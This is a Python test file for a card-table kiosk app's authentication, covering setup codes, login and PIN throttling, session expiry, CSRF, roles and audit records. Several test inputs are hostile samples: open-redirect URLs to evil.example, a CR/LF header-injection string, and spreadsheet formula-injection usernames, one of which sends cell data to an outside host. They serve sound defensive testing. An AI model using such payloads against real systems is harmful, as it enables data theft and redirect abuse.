"""Access: first-run setup, login, throttling, timeouts, CSRF, roles."""

from __future__ import annotations

import re
import threading
import time

import pytest

from kiosk import db
from kiosk.audit import AuditType
from kiosk.auth import NOT_A_USERNAME, PIN_LOCKED
from kiosk_testing import ACCOUNTS, csrf_from, hand, login


def types(audit) -> list[str]:
    return [r.type for r in audit.records()]


def form_values(html: str) -> dict[str, str | None]:
    """Each <input>'s name and the value it is filled with (None: left empty)."""
    values = {}
    for tag in re.findall(r"<input\b[^>]*>", html):
        name, value = re.search(r'name="([^"]*)"', tag), re.search(r'value="([^"]*)"', tag)
        values[name.group(1)] = value.group(1) if value else None
    return values


# ------------------------------------------------------------------ first run


def test_first_run_sends_everyone_to_setup_and_needs_the_console_code(bare_app):
    client = bare_app.test_client()
    assert client.get("/auth/login").location.endswith("/auth/setup")
    page = client.get("/auth/setup")
    assert b"setup code" in page.data
    token = csrf_from(page.get_data(as_text=True))
    form = {"csrf_token": token, "username": "boss", "password": "long-enough-pw", "password2": "long-enough-pw"}
    wrong = client.post("/auth/setup", data={**form, "setup_code": "00000000"})
    assert wrong.status_code == 400 and b"setup code is wrong" in wrong.data
    code = db.setup_code(bare_app.config["DATA_DIR"])
    short = client.post("/auth/setup", data={**form, "setup_code": code, "password": "short", "password2": "short"})
    assert short.status_code == 400 and b"too short" in short.data
    ok = client.post("/auth/setup", data={**form, "setup_code": code})
    assert ok.status_code == 302 and ok.location.endswith("/auth/login")
    # the code is single-use and setup is closed once an account exists
    assert client.get("/auth/setup").location.endswith("/auth/login")
    login(client, "boss", "long-enough-pw")
    assert client.get("/").location.endswith("/admin/users")
    assert AuditType.SETUP_ADMIN in types(bare_app.extensions["niuniu"].audit)


def test_two_setup_submits_at_once_make_one_administrator(bare_app, monkeypatch):
    """A double click (or two screens) on Create administrator: the second waits for the
    first and is sent to log in, instead of a second admin from the same code (or a 500)."""
    from kiosk import auth

    slow_hash = auth.hash_secret

    def hash_secret(secret):   # scrypt on a Pi takes this long: both submits are inside it at once
        time.sleep(0.3)
        return slow_hash(secret)

    monkeypatch.setattr(auth, "hash_secret", hash_secret)
    code = db.setup_code(bare_app.config["DATA_DIR"])
    answers = {}

    def submit(username):
        client = bare_app.test_client()
        token = csrf_from(client.get("/auth/setup").get_data(as_text=True))
        answers[username] = client.post("/auth/setup", data={
            "csrf_token": token, "setup_code": code, "username": username,
            "password": "long-enough-pw", "password2": "long-enough-pw"})

    threads = [threading.Thread(target=submit, args=(name,)) for name in ("boss", "boss2")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(r.status_code for r in answers.values()) == [302, 302]
    conn = db.connect(bare_app.config["DATA_DIR"])
    assert conn.execute("SELECT COUNT(*) FROM users").fetchone()[0] == 1
    conn.close()
    audit = bare_app.extensions["niuniu"].audit
    assert types(audit).count(AuditType.SETUP_ADMIN) == 1


def test_wrong_setup_codes_are_throttled(bare_app):
    client = bare_app.test_client()
    token = csrf_from(client.get("/auth/setup").get_data(as_text=True))
    form = {"csrf_token": token, "username": "boss", "password": "long-enough-pw", "password2": "long-enough-pw"}
    for guess in range(bare_app.config["THROTTLE_MAX_FAILURES"]):
        assert client.post("/auth/setup", data={**form, "setup_code": f"{guess:08x}"}).status_code == 400
    code = db.setup_code(bare_app.config["DATA_DIR"])
    locked = client.post("/auth/setup", data={**form, "setup_code": code})
    assert locked.status_code == 429 and b"too many wrong setup codes" in locked.data
    conn = db.connect(bare_app.config["DATA_DIR"])
    assert conn.execute("SELECT COUNT(*) FROM users").fetchone()[0] == 0
    conn.execute("DELETE FROM failures")   # the wait is over
    conn.close()
    ok = client.post("/auth/setup", data={**form, "setup_code": code.upper()})   # as read off the console
    assert ok.status_code == 302 and ok.location.endswith("/auth/login")


def test_setup_form_keeps_the_code_and_name_after_an_error_but_never_the_passwords(bare_app):
    """Two passwords that differ (or a too-short one) cleared the whole form, so the
    eight-character code had to be read off the console and typed again."""
    client = bare_app.test_client()
    token = csrf_from(client.get("/auth/setup").get_data(as_text=True))
    code = db.setup_code(bare_app.config["DATA_DIR"])
    for password, password2, said in (("long-enough-pw", "long-enough-px", "the two passwords differ"),
                                      ("short-pw", "short-pw", "too short")):
        r = client.post("/auth/setup", data={"csrf_token": token, "setup_code": code, "username": "boss",
                                             "password": password, "password2": password2})
        page = r.get_data(as_text=True)
        assert r.status_code == 400 and said in page
        values = {name: value for name, value in form_values(page).items() if name != "csrf_token"}
        assert values == {"setup_code": code, "username": "boss", "password": None, "password2": None}
        assert password not in page and password2 not in page


def test_passwords_and_pins_are_stored_hashed(app):
    conn = db.connect(app.config["DATA_DIR"])
    rows = conn.execute("SELECT username, password_hash, pin_hash FROM users").fetchall()
    conn.close()
    for row in rows:
        role, password, pin = ACCOUNTS[row["username"]]
        assert password not in row["password_hash"] and row["password_hash"].startswith("pbkdf2:")
        if pin:
            assert pin not in row["pin_hash"]


# ------------------------------------------------------------------ login


def test_login_logout_and_failures_are_logged(client, audit):
    token = login(client, "dealer1")
    assert client.get("/dealer/").status_code == 200
    assert client.post("/auth/logout", data={"csrf_token": token}).status_code == 302
    assert client.get("/dealer/").status_code == 302
    page = client.get("/auth/login")
    bad = client.post("/auth/login", data={"username": "dealer1", "password": "nope-nope-nope",
                                            "csrf_token": csrf_from(page.get_data(as_text=True))})
    assert bad.status_code == 401 and b"username or password is wrong" in bad.data
    logged = [(r.type, r.actor, r.data.get("reason")) for r in audit.records()
              if r.type in (AuditType.LOGIN, AuditType.LOGOUT, AuditType.LOGIN_FAILED)]
    assert logged == [("login", "dealer1", None), ("logout", "dealer1", None),
                      ("login_failed", "dealer1", "wrong password")]
    assert "nope-nope-nope" not in str([r.payload for r in audit.records()])


def test_failed_logins_are_throttled_even_with_the_right_password(client, audit):
    token = csrf_from(client.get("/auth/login").get_data(as_text=True))
    for _ in range(5):
        r = client.post("/auth/login", data={"username": "dealer1", "password": "wrong-guess-1", "csrf_token": token})
        assert r.status_code == 401
    right = client.post("/auth/login", data={"username": "dealer1", "password": ACCOUNTS["dealer1"][1],
                                              "csrf_token": token})
    assert right.status_code == 429 and b"too many failed logins" in right.data
    assert audit.last().data["reason"] == "throttled"


def test_throttle_lifts_after_the_wait(app, client, monkeypatch):
    app.config["THROTTLE_BASE_S"] = 0.2
    token = csrf_from(client.get("/auth/login").get_data(as_text=True))
    for _ in range(5):
        client.post("/auth/login", data={"username": "watch1", "password": "x" * 12, "csrf_token": token})
    time.sleep(0.3)
    login(client, "watch1")


def test_open_redirect_after_login_is_refused(client):
    token = csrf_from(client.get("/auth/login").get_data(as_text=True))
    r = client.post("/auth/login?next=https://evil.example/x",
                    data={"username": "dealer1", "password": ACCOUNTS["dealer1"][1], "csrf_token": token})
    assert r.location == "/dealer/"


@pytest.mark.parametrize("target", ["/%0D%0ASet-Cookie:%20x=1", "/%5C%5Cevil.example", "/\\evil.example",
                                    "/auth/logout", "/auth/login?next=/dealer/"])
def test_a_next_that_cannot_be_followed_sends_the_user_home(client, audit, target):
    """A CR/LF in next= failed the redirect (500) after the login had succeeded and been
    logged; the logout (POST only) or the login page are no place to land either."""
    token = csrf_from(client.get("/auth/login").get_data(as_text=True))
    r = client.post(f"/auth/login?next={target}",
                    data={"username": "dealer1", "password": ACCOUNTS["dealer1"][1], "csrf_token": token})
    assert r.status_code == 302 and r.location == "/dealer/"
    assert client.get("/dealer/").status_code == 200


@pytest.mark.parametrize("user, target, lands", [
    ("dealer1", "/admin/users", "/dealer/"),
    ("watch1", "/dealer/?x=1", "/review/"),
    ("admin1", "/review/log", "/admin/users"),
    ("dealer1", "/review/report", "/dealer/"),
])
def test_a_next_the_role_cannot_open_sends_the_user_home_and_says_why(client, user, target, lands):
    """A dealer sent to log in from an admin's page landed on a 403 right after logging in."""
    token = csrf_from(client.get("/auth/login").get_data(as_text=True))
    r = client.post("/auth/login", query_string={"next": target},
                    data={"username": user, "password": ACCOUNTS[user][1], "csrf_token": token})
    assert r.status_code == 302 and r.location == lands
    home = client.get(r.location)
    assert home.status_code == 200
    role = ACCOUNTS[user][0]
    assert f"A {role} cannot open {target.split('?')[0]}; this is your start page." in home.get_data(as_text=True)


@pytest.mark.parametrize("user, target", [("admin1", "/admin/zones/"), ("watch1", "/review/log?type=login"),
                                          ("super1", "/review/report"), ("dealer1", "/dealer"),
                                          ("watch1", "/live/status")])
def test_a_next_the_role_may_open_is_followed(client, user, target):
    token = csrf_from(client.get("/auth/login").get_data(as_text=True))
    r = client.post("/auth/login", query_string={"next": target},
                    data={"username": user, "password": ACCOUNTS[user][1], "csrf_token": token})
    assert r.status_code == 302 and r.location == target


def test_idle_session_times_out_and_is_logged(app, client, audit):
    login(client, "dealer1")
    app.config["SESSION_IDLE_S"] = 0.05
    time.sleep(0.1)
    r = client.get("/dealer/")
    assert r.status_code == 302 and "/auth/login" in r.location
    assert audit.last().type == AuditType.SESSION_TIMEOUT
    api = client.get("/dealer/api/state")
    assert api.status_code == 401 and "log in again" in api.json["error"]


def test_after_a_timeout_the_login_page_says_why_and_log_out_still_works(app, client):
    """A dealer sent back to the login page mid-shift once saw no reason, and pressing Log out
    on the stale screen answered "security token is missing or stale"."""
    token = login(client, "dealer1")
    app.config["SESSION_IDLE_S"] = 60
    with client.session_transaction() as sess:
        sess["last_seen"] = time.time() - 120
    r = client.post("/auth/logout", data={"csrf_token": token})
    assert r.status_code == 302 and "/auth/login" in r.location
    page = client.get("/auth/login").get_data(as_text=True)
    assert "dealer1&#39;s session ended after 1 minutes without use; log in again." in page


def test_disabled_account_loses_its_session(app, client):
    login(client, "dealer1")
    conn = db.connect(app.config["DATA_DIR"])
    conn.execute("UPDATE users SET active = 0 WHERE username = 'dealer1'")
    conn.close()
    assert client.get("/dealer/").status_code == 302


@pytest.mark.parametrize("url", ["/live/camera.mjpg", "/live/events"])
@pytest.mark.parametrize("shut_out", ["disabled", "logged out"])
def test_an_open_stream_ends_when_the_account_is_disabled(app, client, service, monkeypatch, url, shut_out):
    """The camera (and the screen's events) must not go on streaming to an account an
    admin has shut out, or to a session logged out (a copy of its cookie opened the stream):
    the stream outlives the request that checked the session."""
    from kiosk import live

    class Camera:
        def latest_jpeg(self, draw_boxes=True):
            return b"\xff\xd8a picture of the table"

        def status(self):
            return {"camera": "online"}

    monkeypatch.setattr(service, "pipeline", Camera())
    monkeypatch.setattr(live, "ACCOUNT_CHECK_S", 0.05)
    app.config.update(MJPEG_FPS=100.0, SSE_KEEPALIVE_S=0.02, SSE_MAX_S=None)
    token = login(client, "dealer1")
    copy = app.test_client()
    copy.set_cookie("niuniu_session", client.get_cookie("niuniu_session").value)
    response = copy.get(url, buffered=False)
    assert response.status_code == 200
    chunks = response.iter_encoded()
    assert next(chunks)
    if shut_out == "disabled":
        conn = db.connect(app.config["DATA_DIR"])
        conn.execute("UPDATE users SET active = 0 WHERE username = 'dealer1'")
        conn.close()
    else:
        assert client.post("/auth/logout", headers={"X-CSRF-Token": token}).status_code == 302
    started = time.monotonic()
    for _ in chunks:
        assert time.monotonic() - started < 3, f"{url} still streaming after the account was {shut_out}"
    response.close()


# ------------------------------------------------------------------ CSRF


@pytest.mark.parametrize("url", ["/dealer/api/bet", "/dealer/api/settle", "/dealer/api/void",
                                 "/dealer/api/correct", "/dealer/api/clear", "/auth/logout"])
def test_every_state_change_needs_the_csrf_token(client, url):
    token = login(client, "dealer1")
    missing = client.post(url, json={"seat": "1", "amount": "10"})
    assert missing.status_code == 400
    wrong = client.post(url, json={}, headers={"X-CSRF-Token": token[:-2] + "xx"})
    assert wrong.status_code == 400


def test_login_form_itself_needs_the_token(client):
    r = client.post("/auth/login", data={"username": "dealer1", "password": ACCOUNTS["dealer1"][1]})
    assert r.status_code == 400


# ------------------------------------------------------------------ roles


ROLE_PAGES = {
    "/dealer/": {"dealer1", "super1"},
    "/dealer/api/state": {"dealer1", "super1"},
    "/live/status": {"dealer1", "super1", "watch1"},
    "/review/": {"watch1"},
    "/review/log": {"watch1"},
    "/review/chain": {"watch1"},
    "/review/export?format=json": {"watch1"},
    "/admin/users": {"admin1"},
    "/admin/zones/": {"admin1"},
}


@pytest.mark.parametrize("user", sorted(ACCOUNTS))
def test_each_role_sees_only_its_pages(client, user):
    login(client, user)
    for url, allowed in ROLE_PAGES.items():
        status = client.get(url).status_code
        if user in allowed:
            assert status == 200, (user, url)
        else:
            assert status == 403, (user, url, status)


@pytest.mark.parametrize("url", list(ROLE_PAGES))
def test_strangers_are_sent_to_login_or_refused(client, url):
    r = client.get(url)
    assert r.status_code in (302, 401)
    if r.status_code == 302:
        assert "/auth/login" in r.location


@pytest.mark.parametrize("user", ["watch1", "admin1"])
@pytest.mark.parametrize("url", ["/dealer/api/bet", "/dealer/api/settle", "/dealer/api/correct",
                                 "/dealer/api/void", "/dealer/api/clear"])
def test_review_and_admin_roles_cannot_act_at_the_table(client, user, url):
    token = login(client, user)
    r = client.post(url, json={"seat": "1", "amount": "10"}, headers={"X-CSRF-Token": token})
    assert r.status_code == 403


def test_home_page_sends_each_role_home(client):
    for user, target in (("dealer1", "/dealer/"), ("watch1", "/review/"), ("admin1", "/admin/users")):
        token = login(client, user)
        assert client.get("/").location == target
        client.post("/auth/logout", data={"csrf_token": token})


def test_security_headers_forbid_outside_scripts_and_framing(client):
    r = client.get("/auth/login")
    csp = r.headers["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp
    cookie = r.headers.get("Set-Cookie", "")
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie


def test_one_accounts_failures_do_not_lock_others_on_the_same_screen(client):
    token = csrf_from(client.get("/auth/login").get_data(as_text=True))
    for _ in range(6):
        client.post("/auth/login", data={"username": "dealer1", "password": "wrong-guess-1", "csrf_token": token})
    login(client, "super1")


# ------------------------------------------------------------------ resets end sessions


def user_ids(app) -> dict[str, int]:
    conn = db.connect(app.config["DATA_DIR"])
    try:
        return {r["username"]: r["id"] for r in conn.execute("SELECT id, username FROM users")}
    finally:
        conn.close()


def reset(admin_client, token, user_id, password, pin=None):
    form = {"csrf_token": token, "password": password, "password2": password}
    if pin:
        form["pin"] = pin
    return admin_client.post(f"/admin/users/{user_id}/secret", data=form, follow_redirects=True)


@pytest.mark.parametrize("user, pin", [("dealer1", None), ("super1", None), ("super1", "8642")])
def test_an_admins_reset_ends_every_open_session_of_the_account(app, user, pin, audit):
    """A reset is the fix for a leaked password or PIN: whoever used it must not stay logged in."""
    leaked, other = app.test_client(), app.test_client()
    token = login(leaked, user)
    login(other, user)
    assert leaked.get("/auth/whoami").json["user"] == user
    admin = app.test_client()
    admin_token = login(admin, "admin1")
    page = reset(admin, admin_token, user_ids(app)[user], "a-fresh-password", pin)
    # The ended session's cookie loses its CSRF token with it, so a stale page's action is
    # refused as such (400, "reload the page"), which leads to the login page, as after Disable.
    r = leaked.post("/dealer/api/bet", json={"seat": "1", "amount": "10"}, headers={"X-CSRF-Token": token})
    assert r.status_code == 400 and AuditType.BETS_PLACED not in types(audit)
    for client in (leaked, other):
        assert client.get("/auth/whoami").status_code == 401
        assert client.get("/dealer/api/state").status_code == 401
        assert client.get("/dealer/").location.startswith("/auth/login")
    assert b"their open sessions have ended" in page.data
    login(leaked, user, "a-fresh-password")
    assert leaked.get("/auth/whoami").json["user"] == user
    assert audit.last().type == AuditType.LOGIN


def test_an_admin_resetting_their_own_password_stays_logged_in_elsewhere_not(app):
    here, elsewhere = app.test_client(), app.test_client()
    token = login(here, "admin1")
    login(elsewhere, "admin1")
    page = reset(here, token, user_ids(app)["admin1"], "a-fresh-password")
    assert elsewhere.get("/admin/users").status_code == 302
    assert here.get("/admin/users").status_code == 200
    assert b"your other open sessions have ended" in page.data


def test_disable_then_enable_does_not_bring_an_unused_session_back(app):
    idle = app.test_client()
    login(idle, "dealer1")
    admin = app.test_client()
    token = login(admin, "admin1")
    uid = user_ids(app)["dealer1"]
    admin.post(f"/admin/users/{uid}/active", data={"csrf_token": token, "active": "0"})
    admin.post(f"/admin/users/{uid}/active", data={"csrf_token": token, "active": "1"})
    assert idle.get("/auth/whoami").status_code == 401
    login(idle, "dealer1")


OLD_USERS = """CREATE TABLE users (
    id INTEGER PRIMARY KEY, username TEXT NOT NULL UNIQUE COLLATE NOCASE, role TEXT NOT NULL,
    password_hash TEXT NOT NULL, pin_hash TEXT, active INTEGER NOT NULL DEFAULT 1,
    created_at TEXT NOT NULL, created_by TEXT NOT NULL)"""


def test_an_account_store_from_before_session_generations_still_works(app_config):
    """A data directory made before resets ended sessions: its accounts load, nobody is
    logged out by the upgrade (a cookie without a generation is read as 0), and the
    first reset ends the sessions as on a new store."""
    import sqlite3
    from pathlib import Path

    from werkzeug.security import generate_password_hash

    from kiosk.app import create_app
    from kiosk_testing import FAST_HASH

    data = Path(app_config["DATA_DIR"])
    data.mkdir(parents=True)
    old = sqlite3.connect(data / db.KIOSK_DB)
    old.execute(OLD_USERS)
    for name, (role, password, pin) in ACCOUNTS.items():
        old.execute("INSERT INTO users(username, role, password_hash, pin_hash, active, created_at, created_by) "
                    "VALUES (?, ?, ?, ?, 1, '2026-01-02T03:04:05.000000Z', 'old kiosk')",
                    (name, role, generate_password_hash(password, method=FAST_HASH),
                     generate_password_hash(pin, method=FAST_HASH) if pin else None))
    old.commit()
    old.close()
    app = create_app(app_config)
    try:
        dealer = app.test_client()
        login(dealer, "dealer1")
        with dealer.session_transaction() as cookie:
            cookie.pop("gen", None)  # as a session made by the old kiosk
        assert dealer.get("/auth/whoami").json["user"] == "dealer1"
        admin = app.test_client()
        token = login(admin, "admin1")
        assert b"2026-01-02" in admin.get("/admin/users").data
        reset(admin, token, user_ids(app)["dealer1"], "a-fresh-password")
        assert dealer.get("/auth/whoami").status_code == 401
        login(dealer, "dealer1", "a-fresh-password")
        db.connect(app_config["DATA_DIR"]).close()  # opening a migrated store again is harmless
    finally:
        service = app.extensions["niuniu"].service
        service.stop()
        service.audit.close()


# ------------------------------------------------------------------ supervisor PIN

SETTLED_BANKER = "4S 6H QD 9C 9H"


@pytest.fixture
def settled(dealer, service):
    """A settled round, so every correction needs a supervisor's PIN; ``fix(pin)`` swaps
    seat 1's 4D and 9D back and forth, answering (status, error)."""
    dealer.post("/dealer/api/bet", {"seat": "1", "amount": "10", "kind": "equal"})
    service.observe([hand("banker", SETTLED_BANKER), hand("1", "AS 2S 3D 4D 5C")], 1)
    dealer.post("/dealer/api/settle")
    cards = ["4D", "9D"]

    def fix(pin, status=200):
        body = dealer.post("/dealer/api/correct", {"seat": "1", "old": cards[0], "new": cards[1],
                                                   "reason": "misread", "pin": pin}, status=status)
        if status == 200:
            cards.reverse()
        return body.get("error")
    return fix


def test_a_right_pin_clears_the_wrong_ones_before_it(settled):
    for _ in range(4):
        assert "not recognised" in settled("9999", 403)
    settled("4321")
    assert "not recognised" in settled("9998", 403)
    settled("4321")   # was: "too many wrong PINs" (5 failures in the window, the right PIN between ignored)
    for _ in range(4):
        settled("1111", 403)
    settled("4321")


def test_an_empty_pin_is_asked_for_not_counted_as_a_guess(settled, dealer, service, audit):
    before = len(audit.records())
    for pin in ["", "   ", None] * 3:
        assert "type the supervisor's PIN" in settled(pin, 403)
    assert len(audit.records()) == before   # no pin_failed
    service.observe([], 2)
    service.observe([hand("banker", SETTLED_BANKER), hand("1", "KS QS JS 10S 10H")], 3)
    r = dealer.post("/dealer/api/void", {"reason": "misdeal", "pin": ""}, status=403)
    assert "type the supervisor's PIN" in r["error"]
    assert AuditType.PIN_FAILED not in types(audit)
    for _ in range(4):
        settled("9999", 403)
    dealer.post("/dealer/api/void", {"reason": "misdeal", "pin": "4321"})   # 4 real failures: not locked


def test_right_pins_between_guesses_do_not_lift_the_ceiling(settled, audit):
    """A dealer who tries four guesses between each real approval still meets the day's
    ceiling (was: 20 in the throttle window, ~600 guesses a day)."""
    for _ in range(2):
        for _ in range(4):
            settled("9999", 403)
        settled("4321")
    settled("9999", 403)
    assert PIN_LOCKED in settled("9999", 403)       # the tenth wrong PIN today
    assert settled("4321", 403) == PIN_LOCKED
    assert types(audit).count(AuditType.PIN_FAILED) == 10


def test_the_pin_lock_still_stops_a_run_of_guesses(settled):
    for _ in range(5):
        settled("9999", 403)
    assert "too many wrong PINs" in settled("4321", 403)


def test_a_right_pin_for_an_action_then_refused_is_on_record(settled, dealer, audit):
    """A right guess among wrong ones, on an action the table refuses (409), wrote nothing:
    only the guesser, reading the status, knew the PIN was right."""
    r = dealer.post("/dealer/api/correct", {"seat": "1", "old": "AS", "new": "2S", "pin": "4321",
                                            "round": "99", "reason": "x"}, status=409)
    record = audit.last()
    assert (record.type, record.actor, record.data["approved_by"]) == (AuditType.PIN_ACCEPTED, "dealer1", "super1")
    assert record.data["status"] == 409 and record.data["refused"] == r["error"]
    settled("4321")         # an approval that goes through is on record as the action, once
    assert types(audit).count(AuditType.PIN_ACCEPTED) == 1 and audit.last().data["approved_by"] == "super1"


def test_a_days_wrong_pins_lock_pin_approval_until_a_supervisor_logs_in(app, settled, audit):
    """One guess at a time, waiting out each throttle, a dealer got ~600 PINs a day."""
    app.config["THROTTLE_BASE_S"] = 0.0      # no waits: as patient a guesser as a day allows
    for _ in range(9):
        assert "not recognised" in settled("9999", 403)
    assert settled("9998", 403) == f"supervisor PIN not recognised; {PIN_LOCKED}"
    assert audit.last().type == AuditType.PIN_FAILED and "locked" in audit.last().data
    written = len(audit.records())
    assert settled("4321", 403) == PIN_LOCKED       # the right PIN too, and nothing more written
    assert settled("9997", 403) == PIN_LOCKED
    assert len(audit.records()) == written
    login(app.test_client(), "dealer1")             # a dealer's login does not unlock it
    assert settled("4321", 403) == PIN_LOCKED
    login(app.test_client(), "super1")
    assert audit.last().type == AuditType.LOGIN and audit.last().data["wrong_pins_cleared"] == 10
    settled("4321")


def test_a_throttled_login_flood_writes_one_record_per_window(app, client, audit):
    """Every refused attempt was a record: ~385 a second from anyone at the login page."""
    token = csrf_from(client.get("/auth/login").get_data(as_text=True))
    form = {"username": "dealer1", "password": "wrong-guess-1", "csrf_token": token}
    for _ in range(5):
        assert client.post("/auth/login", data=form).status_code == 401
    written = len(audit.records())
    for _ in range(50):
        assert client.post("/auth/login", data=form).status_code == 429
    new = audit.records()[written:]
    assert [(r.type, r.actor, r.data["reason"], r.data["refused_unlogged"]) for r in new] == \
        [("login_failed", "dealer1", "throttled", 0)]
    conn = db.connect(app.config["DATA_DIR"])
    conn.execute("UPDATE throttle_log SET logged = logged - 3600")     # the window is over, the lock not
    conn.close()
    assert client.post("/auth/login", data=form).status_code == 429
    assert audit.last().data["refused_unlogged"] == 49
    assert len(audit.records()) == written + 2


def test_a_replayed_expired_cookie_writes_one_session_timeout(app, client, audit):
    """An old cookie, replayed, wrote a session_timeout in its owner's name each time."""
    login(client, "super1")
    cookie = client.get_cookie("niuniu_session").value
    app.config["SESSION_IDLE_S"] = 0.05
    time.sleep(0.1)
    for _ in range(5):
        replay = app.test_client()
        replay.set_cookie("niuniu_session", cookie)
        assert replay.get("/dealer/").location.startswith("/auth/login")
    assert [(r.type, r.actor) for r in audit.records(types=[AuditType.SESSION_TIMEOUT])] == \
        [("session_timeout", "super1")]


def test_logout_ends_the_session_for_a_copy_of_its_cookie_too(app, client):
    """Only the browser forgot a logged-out session: a copy of the cookie still worked.
    The account's other sessions stay (logout ends this one)."""
    token = login(client, "super1")
    copied = client.get_cookie("niuniu_session").value
    elsewhere = app.test_client()
    login(elsewhere, "super1")
    assert client.post("/auth/logout", data={"csrf_token": token}).status_code == 302
    copy = app.test_client()
    copy.set_cookie("niuniu_session", copied)
    assert copy.get("/auth/whoami").status_code == 401
    assert copy.post("/dealer/api/bet", json={"seat": "1", "amount": "10"},
                     headers={"X-CSRF-Token": token}).status_code == 400
    assert elsewhere.get("/auth/whoami").json["user"] == "super1"


def test_a_cookie_without_a_session_id_is_refused(app, client):
    """Signed but with no server-side session: what anyone holding the key could make (QA51 M1)."""
    login(client, "dealer1")
    with client.session_transaction() as cookie:
        cookie.pop("sid")               # as a session made by the kiosk before session ids
    assert client.get("/auth/whoami").status_code == 401


@pytest.mark.parametrize("typed", ['=HYPERLINK("http://evil.example/?"&A1,"Click to verify")', "-2+3",
                                   "@SUM(A1)", "+1", "\x1b[31mred", "x" * 200])
def test_a_failed_logins_actor_is_a_username_or_a_placeholder(client, audit, typed):
    """The typed name was the actor, written as it is into the CSV export: a live formula."""
    import csv
    import io

    token = csrf_from(client.get("/auth/login").get_data(as_text=True))
    r = client.post("/auth/login", data={"username": typed, "password": "x" * 12, "csrf_token": token})
    assert r.status_code == 401
    record = audit.last()
    assert (record.actor, record.data["typed"]) == (NOT_A_USERNAME, typed[:64])
    login(client, "watch1")
    rows = list(csv.reader(io.StringIO(client.get("/review/export?format=csv").get_data(as_text=True))))
    actors = [row[4] for row in rows if "login_failed" in row]
    assert actors == [NOT_A_USERNAME]


def test_a_failed_login_by_a_possible_username_names_it(client, audit):
    token = csrf_from(client.get("/auth/login").get_data(as_text=True))
    client.post("/auth/login", data={"username": "no.such_user", "password": "x" * 12, "csrf_token": token})
    assert (audit.last().actor, audit.last().data) == ("no.such_user", {"reason": "unknown user", "ip": "127.0.0.1"})


def test_an_unknown_username_costs_a_password_check_too(client, monkeypatch):
    """Skipping the hash for an unknown name answered in 5 ms against ~105 ms: which names exist."""
    from kiosk import auth

    checked = []
    real = auth.check_password_hash
    monkeypatch.setattr(auth, "check_password_hash", lambda hashed, secret: checked.append(1) or real(hashed, secret))
    token = csrf_from(client.get("/auth/login").get_data(as_text=True))
    for name in ("nosuchuser", "dealer1"):
        assert client.post("/auth/login", data={"username": name, "password": "x" * 12,
                                                "csrf_token": token}).status_code == 401
    assert len(checked) == 2
